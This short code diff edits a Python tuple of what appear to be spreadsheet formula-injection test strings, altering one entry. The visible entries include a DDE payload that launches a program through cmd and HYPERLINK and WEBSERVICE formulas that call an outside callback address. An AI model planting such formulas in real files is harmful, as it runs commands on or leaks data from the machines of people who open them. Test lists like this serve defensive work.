@@ -71,7 +71,7 @@ TEXTS = (
     "＋1+B39",
     "＠SUM(B40)",
     '"=1+B41"',
-    ";=1+B42",
+    "B42;=1+1",
     "=cmd|'/C calc'!B43",
     f'=HYPERLINK("{CALL}","B44")',
     f'=WEBSERVICE("{CALL}?B45")',
